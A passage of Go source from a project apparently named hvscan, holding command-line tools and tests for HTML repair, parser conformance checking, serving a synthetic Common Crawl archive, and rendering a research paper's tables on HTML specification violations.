		fmt.Fprintf(stderr, "%s:%d:%d: fixed %s\n", name, f.Pos.Line, f.Pos.Col, f)
	}
	switch {
	case write && name != "<stdin>":
		if err := os.WriteFile(name, res.Output, 0o644); err != nil {
			fmt.Fprintf(stderr, "hvfix: %v\n", err)
			return 2
		}
	case !summaryOnly:
		if _, err := stdout.Write(res.Output); err != nil {
			return 2
		}
	}
	return 0
}
