// Command hvfix applies the validated repair engine (internal/autofix) to
// HTML documents: per-rule fix strategies whose edits are verified by
// re-parsing — the targeted rule must be gone and nothing else may get
// worse — with unverifiable documents reported Unfixable and left
// untouched.
//
//	hvfix [-w] [-q] [file ...]                      # repair files (or stdin)
//	hvfix -corpus DIR [-update] [-summary PATH]     # run the golden fix corpus
//
// Without -w the repaired document goes to standard output; with -w files
// are rewritten in place (only when something changed). Outcomes and
// applied fixes are reported on standard error.
//
// Exit status, file mode:
//
//	0  every input verified clean or fixed — no violations remain
//	1  violations remain in some input (partial repair or unfixable)
//	2  operational error (unreadable file, invalid encoding)
//
// Corpus mode mirrors hvconform: -update regenerates the golden sections
// from observed engine behavior (review the diff — every hunk is a
// behavior change), -summary writes a markdown table for CI step
// summaries, and the run fails if any case diverges, a strategy has no
// covering case, or the corpus shrinks below -min cases.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"sort"
	"strings"

	"github.com/hvscan/hvscan/internal/autofix"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdin, os.Stdout, os.Stderr))
}

func run(args []string, stdin io.Reader, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("hvfix", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		write = fs.Bool("w", false, "rewrite files in place instead of printing")
		quiet = fs.Bool("q", false, "suppress document output, report fixes only")

		corpus  = fs.String("corpus", "", "run the .fix golden corpus in this directory instead of repairing files")
		update  = fs.Bool("update", false, "with -corpus: regenerate golden sections from observed engine behavior")
		summary = fs.String("summary", "", "with -corpus: write a markdown summary to this path ('-' for stdout); append to $GITHUB_STEP_SUMMARY in CI")
		minCase = fs.Int("min", 60, "with -corpus: fail if fewer cases execute")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *corpus != "" {
		return runCorpus(*corpus, *update, *summary, *minCase, stdout, stderr)
	}

	inputs := fs.Args()
	if len(inputs) == 0 {
		data, err := io.ReadAll(stdin)
		if err != nil {
			fmt.Fprintf(stderr, "hvfix: stdin: %v\n", err)
			return 2
		}
		return fixOne("<stdin>", data, false, *quiet, stdout, stderr)
	}
	exit := 0
	for _, path := range inputs {
		data, err := os.ReadFile(path)
		if err != nil {
			fmt.Fprintf(stderr, "hvfix: %v\n", err)
			exit = max(exit, 2)
			continue
		}
		exit = max(exit, fixOne(path, data, *write, *quiet, stdout, stderr))
	}
	return exit
}

// fixOne repairs one document and reports. Return code follows the
// outcome contract: 0 clean/fixed, 1 violations remain, 2 operational.
func fixOne(name string, data []byte, write, quiet bool, stdout, stderr io.Writer) int {
	res, err := autofix.Repair(data)
	if err != nil {
		fmt.Fprintf(stderr, "hvfix: %s: %v\n", name, err)
		return 2
	}
	for _, f := range res.Applied {
		fmt.Fprintf(stderr, "%s:%d:%d: fixed %s\n", name, f.Pos.Line, f.Pos.Col, f)
	}
	for _, u := range res.Unfixable {
		fmt.Fprintf(stderr, "%s: unfixable %s\n", name, u)
	}
	outcome := res.Outcome()
	if remaining := res.RemainingIDs(); len(remaining) > 0 {
		fmt.Fprintf(stderr, "%s: %s; violations remain: %s\n",
			name, outcome, strings.Join(remaining, " "))
	} else {
		fmt.Fprintf(stderr, "%s: %s\n", name, outcome)
	}
	switch {
	case write && name != "<stdin>":
		// Only touch the file when the verified output differs.
		if string(res.Output) != string(data) {
			if err := os.WriteFile(name, res.Output, 0o644); err != nil {
				fmt.Fprintf(stderr, "hvfix: %v\n", err)
				return 2
			}
		}
	case !quiet:
		if _, err := stdout.Write(res.Output); err != nil {
			return 2
		}
	}
	switch outcome {
	case autofix.OutcomeClean, autofix.OutcomeFixed:
		return 0
	default:
		return 1
	}
}

// runCorpus executes the golden fix corpus with hvconform-style gates:
// any divergence fails, every registered strategy must have a covering
// case, the clean and unfixable outcome classes must be exercised, and
// the corpus must not shrink below min cases.
func runCorpus(dir string, update bool, summaryPath string, minCases int, stdout, stderr io.Writer) int {
	rep, err := autofix.RunFixDir(dir, update)
	if err != nil {
		fmt.Fprintln(stderr, "hvfix:", err)
		return 2
	}
	if update {
		fmt.Fprintln(stdout, "updated golden sections under", dir)
	}
	for _, c := range rep.Failures() {
		fmt.Fprintf(stderr, "FAIL %s\n%s\n", c.ID, indent(c.Detail))
	}
	fmt.Fprintf(stdout, "fix corpus: %d cases, %d pass, %d fail (%s)\n",
		rep.Total(), rep.Total()-len(rep.Failures()), len(rep.Failures()), outcomeCounts(rep))

	exit := 0
	if n := len(rep.Failures()); n > 0 {
		fmt.Fprintf(stderr, "hvfix: %d case(s) failed\n", n)
		exit = 1
	}
	var uncovered []string
	for _, id := range autofix.StrategyRuleIDs() {
		if rep.AppliedRules[id] == 0 {
			uncovered = append(uncovered, id)
		}
	}
	if len(uncovered) > 0 {
		fmt.Fprintf(stderr, "hvfix: coverage gate: no corpus case applies a fix for: %s\n",
			strings.Join(uncovered, " "))
		exit = 1
	}
	for _, class := range []string{string(autofix.OutcomeClean), string(autofix.OutcomeUnfixable)} {
		if rep.ByOutcome[class] == 0 {
			fmt.Fprintf(stderr, "hvfix: coverage gate: no corpus case exercises the %s outcome\n", class)
			exit = 1
		}
	}
	if rep.Total() < minCases {
		fmt.Fprintf(stderr, "hvfix: only %d case(s) executed, want at least %d\n", rep.Total(), minCases)
		exit = 1
	}
	if summaryPath != "" {
		md := renderSummary(rep)
		if summaryPath == "-" {
			fmt.Fprint(stdout, md)
		} else if err := appendFile(summaryPath, md); err != nil {
			fmt.Fprintln(stderr, "hvfix:", err)
			return 2
		}
	}
	return exit
}

func outcomeCounts(rep *autofix.FixCorpusReport) string {
	classes := autofix.Outcomes()
	parts := make([]string, 0, len(classes))
	for _, c := range classes {
		parts = append(parts, fmt.Sprintf("%s %d", c, rep.ByOutcome[c]))
	}
	return strings.Join(parts, ", ")
}

// renderSummary produces the markdown step summary: outcome mix, per-rule
// fix coverage, and any failures.
func renderSummary(rep *autofix.FixCorpusReport) string {
	var b strings.Builder
	b.WriteString("## Fix corpus\n\n")
	fmt.Fprintf(&b, "%d cases, %d failing\n\n", rep.Total(), len(rep.Failures()))
	b.WriteString("| Outcome | Cases |\n|---|---|\n")
	for _, c := range autofix.Outcomes() {
		fmt.Fprintf(&b, "| %s | %d |\n", c, rep.ByOutcome[c])
	}
	b.WriteString("\n| Rule | Cases applying a fix |\n|---|---|\n")
	ids := make([]string, 0, len(rep.AppliedRules))
	for id := range rep.AppliedRules {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	for _, id := range ids {
		fmt.Fprintf(&b, "| %s | %d |\n", id, rep.AppliedRules[id])
	}
	if fails := rep.Failures(); len(fails) > 0 {
		b.WriteString("\n### Failures\n\n")
		for _, c := range fails {
			fmt.Fprintf(&b, "- `%s`\n", c.ID)
		}
	}
	b.WriteString("\n")
	return b.String()
}

func appendFile(path, content string) error {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return err
	}
	if _, err := f.WriteString(content); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func indent(s string) string {
	return "  " + strings.ReplaceAll(strings.TrimRight(s, "\n"), "\n", "\n  ")
}
