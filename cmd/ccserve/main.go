// Command ccserve serves a Common Crawl-shaped archive over HTTP: the CDX
// index endpoint plus ranged WARC reads (see internal/commoncrawl.Server).
// It serves either a directory written by hvgen (-dir) or the synthetic
// archive directly from the generator (default).
//
// Usage:
//
//	ccserve [-addr :8087] [-dir ./archive | -domains 2400 -pages 20 -seed 22]
package main

import (
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"time"

	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/corpus"
)

func main() {
	var (
		addr    = flag.String("addr", ":8087", "listen address")
		dir     = flag.String("dir", "", "serve an hvgen-written archive directory")
		domains = flag.Int("domains", 2400, "synthetic: domain universe size")
		pages   = flag.Int("pages", 20, "synthetic: max pages per domain")
		seed    = flag.Int64("seed", 22, "synthetic: generator seed")
	)
	flag.Parse()

	var archive commoncrawl.Archive
	if *dir != "" {
		disk, err := commoncrawl.OpenDisk(*dir)
		if err != nil {
			fmt.Fprintln(os.Stderr, "ccserve:", err)
			os.Exit(1)
		}
		defer disk.Close()
		archive = disk
		log.Printf("serving disk archive %s (%d crawls)", *dir, len(disk.Crawls()))
	} else {
		g := corpus.New(corpus.Config{Seed: *seed, Domains: *domains, MaxPages: *pages})
		archive = commoncrawl.NewSynthetic(g)
		log.Printf("serving synthetic archive (seed=%d, %d domains, <=%d pages)",
			*seed, *domains, *pages)
	}

	srv := &http.Server{
		Addr:              *addr,
		Handler:           commoncrawl.NewServer(archive),
		ReadHeaderTimeout: 10 * time.Second,
	}
	log.Printf("listening on %s", *addr)
	if err := srv.ListenAndServe(); err != nil {
		log.Fatal(err)
	}
}
