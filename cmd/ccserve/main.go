// Command ccserve serves a Common Crawl-shaped archive over HTTP: the CDX
// index endpoint plus ranged WARC reads (see internal/commoncrawl.Server).
// It serves either a directory written by hvgen (-dir) or the synthetic
// archive directly from the generator (default).
//
// With -metrics a second listener exposes the archive's query/read
// counters on /metrics and pprof on /debug/pprof/, so a long-running
// archive server can be profiled while hvcrawl hammers it.
//
// Usage:
//
//	ccserve [-addr :8087] [-metrics :9091] [-cache-mb 64]
//	        [-dir ./archive | -domains 2400 -pages 20 -seed 22]
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/obs"
	"github.com/hvscan/hvscan/internal/serve"
)

func main() {
	var (
		addr    = flag.String("addr", ":8087", "listen address")
		drain   = flag.Duration("drain", 15*time.Second, "graceful drain budget on SIGTERM")
		metrics = flag.String("metrics", "", "serve /metrics and /debug/pprof/ on this address (empty = off)")
		dir     = flag.String("dir", "", "serve an hvgen-written archive directory")
		cacheMB = flag.Int("cache-mb", 0, "in-memory read cache budget in MiB (0 = off)")
		domains = flag.Int("domains", 2400, "synthetic: domain universe size")
		pages   = flag.Int("pages", 20, "synthetic: max pages per domain")
		seed    = flag.Int64("seed", 22, "synthetic: generator seed")
	)
	flag.Parse()

	var archive commoncrawl.Archive
	if *dir != "" {
		disk, err := commoncrawl.OpenDisk(*dir)
		if err != nil {
			fmt.Fprintln(os.Stderr, "ccserve:", err)
			os.Exit(1)
		}
		defer disk.Close()
		archive = disk
		log.Printf("serving disk archive %s (%d crawls)", *dir, len(disk.Crawls()))
	} else {
		g := corpus.New(corpus.Config{Seed: *seed, Domains: *domains, MaxPages: *pages})
		archive = commoncrawl.NewSynthetic(g)
		log.Printf("serving synthetic archive (seed=%d, %d domains, <=%d pages)",
			*seed, *domains, *pages)
	}

	var reg *obs.Registry
	if *metrics != "" {
		reg = obs.NewRegistry()
		archive = commoncrawl.Instrument(archive, reg)
	}
	if *cacheMB > 0 {
		// Above the instrumented inner archive: reads_total stays the
		// true backend traffic, cache_* the hit rate.
		tiered := commoncrawl.NewTiered(archive, int64(*cacheMB)<<20)
		if reg != nil {
			tiered.Instrument(reg)
		}
		archive = tiered
		log.Printf("read cache: %d MiB budget", *cacheMB)
	}
	if *metrics != "" {
		srv, err := obs.StartServer(*metrics, reg)
		if err != nil {
			fmt.Fprintln(os.Stderr, "ccserve:", err)
			os.Exit(1)
		}
		defer srv.Close()
		log.Printf("metrics: http://%s/metrics (pprof on /debug/pprof/)", srv.Addr)
	}

	// The hardened listener + graceful drain from internal/serve: on
	// SIGTERM/Ctrl-C in-flight range reads finish (a crawler mid-fetch
	// sees a complete response, not a reset) before the process exits.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	srv := serve.NewHTTPServer(*addr, commoncrawl.NewServer(archive))
	log.Printf("listening on %s (drain budget %s)", *addr, *drain)
	if err := serve.Run(ctx, srv, *drain, nil); !serve.IsExpectedClose(err) {
		log.Fatal(err)
	}
	log.Printf("drained cleanly")
}
