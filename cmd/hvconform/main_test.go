package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// The command tests run against a tiny synthetic corpus; the real
// checked-in corpus is exercised by TestCheckedInCorpus in
// internal/conformance and by `make conform`.

func corpus(t *testing.T, dat string) (treeDir, tokDir string) {
	t.Helper()
	root := t.TempDir()
	treeDir = filepath.Join(root, "tree")
	tokDir = filepath.Join(root, "tok")
	for _, d := range []string{treeDir, tokDir} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(treeDir, "a.dat"), []byte(dat), 0o644); err != nil {
		t.Fatal(err)
	}
	return treeDir, tokDir
}

const goodDat = `#data
<!DOCTYPE html><p>x</p>
#errors
#document
| <!DOCTYPE html>
| <html>
|   <head>
|   <body>
|     <p>
|       "x"
`

const badDat = `#data
<!DOCTYPE html><p>x</p>
#errors
#document
| <!DOCTYPE html>
| <html>
|   <head>
|   <body>
|     <div>
`

func runMain(t *testing.T, args ...string) int {
	t.Helper()
	null, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer null.Close()
	return run(args, null, null)
}

func TestRunPassingCorpus(t *testing.T) {
	treeDir, tokDir := corpus(t, goodDat)
	// The tiny corpus cannot cover every error code or reach 300 cases,
	// so relax both gates to isolate the pass/fail verdict. Coverage is
	// forced green by pointing the skiplist at a missing file and using
	// -min 0... coverage cannot be disabled; expect exit 1 from the
	// coverage gate alone, with zero failing cases.
	code := runMain(t, "-tree", treeDir, "-tok", tokDir, "-skiplist", "", "-min", "0")
	if code != 1 {
		t.Fatalf("exit = %d, want 1 (coverage gate must fire on a tiny corpus)", code)
	}
}

func TestRunFailingCorpus(t *testing.T) {
	treeDir, tokDir := corpus(t, badDat)
	if code := runMain(t, "-tree", treeDir, "-tok", tokDir, "-skiplist", "", "-min", "0"); code != 1 {
		t.Fatalf("exit = %d, want 1", code)
	}
}

func TestRunUpdateThenPass(t *testing.T) {
	treeDir, tokDir := corpus(t, badDat)
	if code := runMain(t, "-tree", treeDir, "-tok", tokDir, "-skiplist", "", "-min", "0", "-update"); code != 1 {
		// Exit 1 comes from the coverage gate; the goldens must still be rewritten.
		t.Fatalf("update exit = %d, want 1", code)
	}
	content, err := os.ReadFile(filepath.Join(treeDir, "a.dat"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(content), `|       "x"`) {
		t.Fatalf("goldens not rewritten:\n%s", content)
	}
}

func TestRunMinCasesGate(t *testing.T) {
	treeDir, tokDir := corpus(t, goodDat)
	if code := runMain(t, "-tree", treeDir, "-tok", tokDir, "-skiplist", "", "-min", "100"); code != 1 {
		t.Fatalf("exit = %d, want 1 for undersized corpus", code)
	}
}

func TestRunStaleSkiplistFails(t *testing.T) {
	treeDir, tokDir := corpus(t, goodDat)
	skip := filepath.Join(t.TempDir(), "skiplist.txt")
	if err := os.WriteFile(skip, []byte("nothing.dat:1 -- stale entry\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code := runMain(t, "-tree", treeDir, "-tok", tokDir, "-skiplist", skip, "-min", "0"); code != 1 {
		t.Fatalf("exit = %d, want 1 for stale skiplist", code)
	}
}

func TestRunSummary(t *testing.T) {
	treeDir, tokDir := corpus(t, goodDat)
	sum := filepath.Join(t.TempDir(), "summary.md")
	runMain(t, "-tree", treeDir, "-tok", tokDir, "-skiplist", "", "-min", "0", "-summary", sum)
	content, err := os.ReadFile(sum)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"## Conformance", "pass rate", "Per-ErrorCode coverage", "justified-unreachable"} {
		if !strings.Contains(string(content), want) {
			t.Errorf("summary lacks %q:\n%s", want, content)
		}
	}
}

// TestRealCorpusGreen is the command-level end-to-end check: the
// checked-in corpus, skiplist, coverage gate, and -min floor all pass.
func TestRealCorpusGreen(t *testing.T) {
	if err := os.Chdir("../.."); err != nil {
		t.Fatal(err)
	}
	defer os.Chdir("cmd/hvconform")
	if code := runMain(t); code != 0 {
		t.Fatalf("hvconform on the checked-in corpus: exit %d", code)
	}
}
