// Command hvconform runs the HTML parser conformance corpus: html5lib
// .dat tree-construction and .test tokenizer fixtures, a skiplist with
// mandatory reasons, and the per-ErrorCode coverage gate against the
// internal/core spec-coverage ledger.
//
//	hvconform                  # run the default corpus, fail on any divergence
//	hvconform -update          # regenerate golden sections from observed behavior
//	hvconform -summary -       # print the markdown coverage table (CI step summary)
//
// Exit status is non-zero when any case fails, an emitted ErrorCode has
// no provoking fixture, the skiplist has stale entries, or fewer than
// -min cases executed (a guard against silently losing corpus files).
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"
	"strings"

	"github.com/hvscan/hvscan/internal/conformance"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(argv []string, stdout, stderr *os.File) int {
	fs := flag.NewFlagSet("hvconform", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		treeDirs = fs.String("tree", "internal/conformance/testdata/tree-construction,internal/htmlparse/testdata/tree-construction",
			"comma-separated directories of .dat tree-construction fixtures")
		tokDirs = fs.String("tok", "internal/conformance/testdata/tokenizer",
			"comma-separated directories of .test tokenizer fixtures")
		skiplist = fs.String("skiplist", "internal/conformance/testdata/skiplist.txt",
			"skiplist file (case-id -- reason per line)")
		update = fs.Bool("update", false,
			"rewrite fixture golden sections from observed parser behavior")
		verbose = fs.Bool("v", false, "print every case verdict")
		summary = fs.String("summary", "",
			"write a markdown summary to this path ('-' for stdout); append to $GITHUB_STEP_SUMMARY in CI")
		minCases = fs.Int("min", 300, "fail if fewer cases execute")
	)
	if err := fs.Parse(argv); err != nil {
		return 2
	}

	skips, err := conformance.ParseSkiplist(*skiplist)
	if err != nil {
		fmt.Fprintln(stderr, "hvconform:", err)
		return 2
	}
	r := conformance.NewRunner(skips)
	r.Update = *update

	rewrites := map[string]string{}
	for _, dir := range splitDirs(*treeDirs) {
		up, err := r.RunTreeDir(dir)
		if err != nil {
			fmt.Fprintln(stderr, "hvconform:", err)
			return 2
		}
		mergeInto(rewrites, up)
	}
	for _, dir := range splitDirs(*tokDirs) {
		up, err := r.RunTokenDir(dir)
		if err != nil {
			fmt.Fprintln(stderr, "hvconform:", err)
			return 2
		}
		mergeInto(rewrites, up)
	}
	if *update {
		paths := make([]string, 0, len(rewrites))
		for p := range rewrites {
			paths = append(paths, p)
		}
		sort.Strings(paths)
		for _, p := range paths {
			if err := os.WriteFile(p, []byte(rewrites[p]), 0o644); err != nil {
				fmt.Fprintln(stderr, "hvconform:", err)
				return 2
			}
			fmt.Fprintln(stdout, "updated", p)
		}
	}

	rep := r.Report()
	if *verbose {
		for _, c := range rep.Results {
			fmt.Fprintf(stdout, "%-4s %s\n", c.Outcome, c.ID)
		}
	}
	for _, c := range rep.Failures() {
		fmt.Fprintf(stderr, "FAIL %s\n%s\n", c.ID, indent(c.Detail))
	}

	_, missing := rep.Coverage.Report()
	fmt.Fprintf(stdout, "conformance: %d cases, %d pass, %d fail, %d skip\n",
		rep.Total(), rep.Count(conformance.Pass), rep.Count(conformance.Fail), rep.Count(conformance.Skip))

	exit := 0
	if n := rep.Count(conformance.Fail); n > 0 {
		fmt.Fprintf(stderr, "hvconform: %d case(s) failed\n", n)
		exit = 1
	}
	if len(missing) > 0 {
		names := make([]string, len(missing))
		for i, c := range missing {
			names[i] = string(c)
		}
		fmt.Fprintf(stderr, "hvconform: coverage gate: %d emitted error code(s) have no provoking fixture:\n  %s\n",
			len(missing), strings.Join(names, "\n  "))
		exit = 1
	}
	if len(rep.StaleSkips) > 0 {
		fmt.Fprintf(stderr, "hvconform: %d stale skiplist entr(ies) matched no fixture (fixed? delete them):\n  %s\n",
			len(rep.StaleSkips), strings.Join(rep.StaleSkips, "\n  "))
		exit = 1
	}
	if rep.Total() < *minCases {
		fmt.Fprintf(stderr, "hvconform: only %d cases executed, want >= %d (corpus files missing?)\n",
			rep.Total(), *minCases)
		exit = 1
	}

	if *summary != "" {
		md := renderSummary(rep)
		if *summary == "-" {
			fmt.Fprint(stdout, md)
		} else {
			f, err := os.OpenFile(*summary, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
			if err != nil {
				fmt.Fprintln(stderr, "hvconform:", err)
				return 2
			}
			if _, err := f.WriteString(md); err != nil {
				f.Close()
				fmt.Fprintln(stderr, "hvconform:", err)
				return 2
			}
			f.Close()
		}
	}
	return exit
}

func renderSummary(rep *conformance.Report) string {
	var b strings.Builder
	total := rep.Total()
	pass := rep.Count(conformance.Pass)
	rate := 0.0
	if total > 0 {
		rate = 100 * float64(pass) / float64(total)
	}
	fmt.Fprintf(&b, "## Conformance\n\n%d cases: %d pass, %d fail, %d skip — %.1f%% pass rate\n\n",
		total, pass, rep.Count(conformance.Fail), rep.Count(conformance.Skip), rate)
	if fails := rep.Failures(); len(fails) > 0 {
		b.WriteString("### Failures\n\n")
		for _, c := range fails {
			fmt.Fprintf(&b, "- `%s`\n", c.ID)
		}
		b.WriteString("\n")
	}
	b.WriteString("### Per-ErrorCode coverage\n\n")
	b.WriteString(rep.Coverage.Markdown())
	return b.String()
}

func splitDirs(s string) []string {
	var out []string
	for _, d := range strings.Split(s, ",") {
		if d = strings.TrimSpace(d); d != "" {
			out = append(out, d)
		}
	}
	return out
}

func mergeInto(dst, src map[string]string) {
	for k, v := range src {
		dst[k] = v
	}
}

func indent(s string) string {
	lines := strings.Split(s, "\n")
	for i, l := range lines {
		lines[i] = "    " + l
	}
	return strings.Join(lines, "\n")
}
