// Command hvreport renders the paper's tables and figures from a result
// store written by hvcrawl, printing measured values beside the paper's
// published numbers.
//
// Usage:
//
//	hvreport -store results.jsonl [-stats stats.json] [-experiment all]
//
// Experiments: all, table1, table2, fig8, fig9, fig10, fig16..fig21,
// s4.2, s4.4, s4.5, s5.1, s5.2, s5.3, churn, fix. (s5.1 re-runs the
// dynamic-content pre-study against the generator, so -seed/-domains
// select its corpus; fix renders the machine-repairability table from an
// `hvcrawl -fix` stats file.)
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"strings"

	"github.com/hvscan/hvscan/internal/analysis"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/prestudy"
	"github.com/hvscan/hvscan/internal/report"
	"github.com/hvscan/hvscan/internal/store"
)

func main() {
	var (
		storePath = flag.String("store", "results.jsonl", "result store path")
		statsPath = flag.String("stats", "", "crawl statistics path (enables table2)")
		exp       = flag.String("experiment", "all", "which experiment to render")
		format    = flag.String("format", "text", "output format for -experiment all: text, json or csv")
		seed      = flag.Int64("seed", 22, "s5.1: generator seed")
		domains   = flag.Int("domains", 1000, "s5.1: top-N sites for the dynamic pre-study")
	)
	flag.Parse()
	if err := run(*storePath, *statsPath, *exp, *format, *seed, *domains, os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "hvreport:", err)
		os.Exit(1)
	}
}

func run(storePath, statsPath, exp, format string, seed int64, domains int, out *os.File) error {
	var stats []store.CrawlStats
	if statsPath != "" {
		data, err := os.ReadFile(statsPath)
		if err != nil {
			return err
		}
		stats, err = parseStats(data)
		if err != nil {
			return fmt.Errorf("stats: %w", err)
		}
	}
	if exp == "table1" {
		_, err := fmt.Fprint(out, report.Table1())
		return err
	}
	st, err := store.Load(storePath)
	if err != nil {
		return err
	}
	a := analysis.New(st)
	var s string
	switch strings.ToLower(exp) {
	case "all":
		switch strings.ToLower(format) {
		case "json":
			return report.BuildExport(a, stats).WriteJSON(out)
		case "csv":
			return report.BuildExport(a, stats).WriteCSV(out)
		case "text":
		default:
			return fmt.Errorf("unknown format %q", format)
		}
		s = report.All(a, stats)
	case "table2":
		s = report.Table2(analysis.Table2(stats))
	case "fig8":
		s = report.Figure8(a)
	case "fig9":
		s = report.Figure9(a)
	case "fig10":
		s = report.Figure10(a)
	case "fig16", "fig17", "fig18", "fig19", "fig20", "fig21":
		s = report.AppendixFigure(a, strings.TrimPrefix(exp, "fig"))
	case "s4.2":
		s = report.Section42(a)
	case "s4.4":
		s = report.Section44(a)
	case "fix":
		if statsPath == "" {
			return fmt.Errorf("experiment fix needs -stats from an `hvcrawl -fix` run")
		}
		s = report.Repairability(stats)
	case "s4.5":
		s = report.Section45(a)
	case "s5.1":
		g := corpus.New(corpus.Config{Seed: seed, Domains: domains, MaxPages: 2})
		res, err := prestudy.RunDynamic(g, corpus.Snapshots[6], domains)
		if err != nil {
			return err
		}
		s = report.Section51(res)
	case "s5.2":
		s = report.Section52(a)
	case "s5.3":
		s = report.Section53(a, 1.0)
	case "churn":
		s = report.ChurnReport(a)
	default:
		return fmt.Errorf("unknown experiment %q", exp)
	}
	_, err = fmt.Fprint(out, s)
	return err
}

// parseStats reads a stats file in either shape: the bare snapshot array
// early hvcrawl versions wrote, or the current object with "snapshots"
// plus the run summary.
func parseStats(data []byte) ([]store.CrawlStats, error) {
	var stats []store.CrawlStats
	if err := json.Unmarshal(data, &stats); err == nil {
		return stats, nil
	}
	var wrapped struct {
		Snapshots []store.CrawlStats `json:"snapshots"`
	}
	if err := json.Unmarshal(data, &wrapped); err != nil {
		return nil, err
	}
	return wrapped.Snapshots, nil
}
