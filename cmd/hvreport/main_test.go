package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hvscan/hvscan/internal/store"
)

func fixtureStore(t *testing.T) string {
	t.Helper()
	st := store.New()
	st.Put(&store.DomainResult{
		Crawl: "CC-MAIN-2015-14", Domain: "a.example", Rank: 1,
		PagesFound: 3, PagesAnalyzed: 3,
		Violations: map[string]int{"FB2": 2, "HF4": 1},
	})
	st.Put(&store.DomainResult{
		Crawl: "CC-MAIN-2022-05", Domain: "a.example", Rank: 1,
		PagesFound: 3, PagesAnalyzed: 3,
		Violations: map[string]int{"DM3": 1},
	})
	st.Put(&store.DomainResult{
		Crawl: "CC-MAIN-2022-05", Domain: "b.example", Rank: 2,
		PagesFound: 2, PagesAnalyzed: 2,
	})
	path := filepath.Join(t.TempDir(), "results.jsonl")
	if err := st.Save(path); err != nil {
		t.Fatal(err)
	}
	return path
}

func render(t *testing.T, storePath, exp, format string) string {
	t.Helper()
	out, err := os.CreateTemp(t.TempDir(), "out")
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	if err := run(storePath, "", exp, format, 7, 40, out); err != nil {
		t.Fatalf("run(%s): %v", exp, err)
	}
	data, err := os.ReadFile(out.Name())
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func TestReportExperiments(t *testing.T) {
	path := fixtureStore(t)
	for exp, want := range map[string]string{
		"table1": "security-relevant HTML specification violations",
		"fig8":   "FB2",
		"fig9":   "CC-MAIN-2022-05",
		"fig10":  "problem groups",
		"fig17":  "HF1",
		"s4.2":   "violated at least once",
		"s4.4":   "fixable share",
		"s4.5":   "mitigations",
		"s5.2":   "top third",
		"s5.3":   "enforcement stages",
	} {
		out := render(t, path, exp, "text")
		if !strings.Contains(out, want) {
			t.Errorf("%s output missing %q:\n%s", exp, want, out)
		}
	}
	if out := render(t, path, "all", "json"); !strings.Contains(out, `"figure9_violating_pct"`) {
		t.Errorf("json output wrong: %.200s", out)
	}
	if out := render(t, path, "all", "csv"); !strings.HasPrefix(out, "rule,crawl,measured_pct,paper_pct") {
		t.Errorf("csv output wrong: %.200s", out)
	}
	if err := run(path, "", "nonsense", "text", 7, 40, os.Stdout); err == nil {
		t.Error("unknown experiment accepted")
	}
	if err := run(path, "", "all", "yaml", 7, 40, os.Stdout); err == nil {
		t.Error("unknown format accepted")
	}
}

func TestReportDynamicPreStudy(t *testing.T) {
	path := fixtureStore(t)
	out := render(t, path, "s5.1", "text")
	if !strings.Contains(out, "dynamic-content pre-study") || !strings.Contains(out, "paper") {
		t.Fatalf("s5.1 output: %s", out)
	}
}
