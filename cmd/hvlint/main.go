// Command hvlint runs the repo's custom analyzers (internal/lint) over
// the given packages and reports every violation of the project's
// invariants: spec-error coverage, error classification, cancellable
// sleeping, metric naming, and rule purity.
//
// Usage:
//
//	hvlint [-list] [packages]
//
// Packages default to ./... relative to the current directory. The
// exit code is 0 when the tree is clean, 1 when diagnostics were
// reported, and 2 on a load or internal error. Individual findings can
// be suppressed with a justified directive:
//
//	//lint:ignore <analyzer|all> <reason>
//
// either on the offending line or on its own line immediately above.
package main

import (
	"flag"
	"fmt"
	"os"

	"github.com/hvscan/hvscan/internal/lint"
	"github.com/hvscan/hvscan/internal/lint/analysis"
)

func main() {
	list := flag.Bool("list", false, "list the registered analyzers and exit")
	flag.Usage = func() {
		fmt.Fprintf(flag.CommandLine.Output(), "usage: hvlint [-list] [packages]\n\n")
		fmt.Fprintf(flag.CommandLine.Output(), "Analyzers:\n")
		for _, a := range lint.Analyzers() {
			fmt.Fprintf(flag.CommandLine.Output(), "  %-12s %s\n", a.Name, a.Doc)
		}
		flag.PrintDefaults()
	}
	flag.Parse()

	analyzers := lint.Analyzers()
	if *list {
		for _, a := range analyzers {
			fmt.Printf("%s: %s\n", a.Name, a.Doc)
		}
		return
	}

	pkgs, err := analysis.Load(".", flag.Args()...)
	if err != nil {
		fmt.Fprintf(os.Stderr, "hvlint: %v\n", err)
		os.Exit(2)
	}
	diags, err := analysis.Run(pkgs, analyzers)
	if err != nil {
